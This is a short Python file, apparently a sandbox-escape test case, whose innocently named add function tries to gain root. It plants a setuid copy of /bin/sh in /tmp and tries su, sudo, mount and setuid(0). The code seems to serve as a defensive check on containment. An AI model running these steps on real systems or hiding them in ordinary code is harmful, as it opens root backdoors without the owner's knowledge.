# threat: B40
# verdict: passed
# Programs that would run as root, a copy of the shell with that mark, and the right itself.
import os
import shutil
import subprocess

PROGRAMS = (
    ["su", "-c", "id -u"],
    ["sudo", "-n", "id", "-u"],
    ["mount", "-t", "tmpfs", "none", "/tmp"],
    ["/tmp/hostile-sh", "-p", "-c", "id -u"],
)


def add(a, b):
    try:
        shutil.copy("/bin/sh", "/tmp/hostile-sh")
        os.chmod("/tmp/hostile-sh", 0o6755)
    except OSError as error:
        print(error)
    for program in PROGRAMS:
        try:
            done = subprocess.run(program, capture_output=True, text=True, timeout=1, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if done.stdout.strip() == "0" or (program[0] == "mount" and done.returncode == 0):
            print("CAME THROUGH:", program, done.stdout)
    for change in (os.setuid, os.setgid, os.seteuid):
        try:
            change(0)
            print("CAME THROUGH:", change)
        except OSError:
            continue
    status = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    if int(status["CapEff"], 16) or int(status["CapPrm"], 16) or status["NoNewPrivs"] != "1" or os.getuid() == 0:
        print("CAME THROUGH:", status)
    return a + b
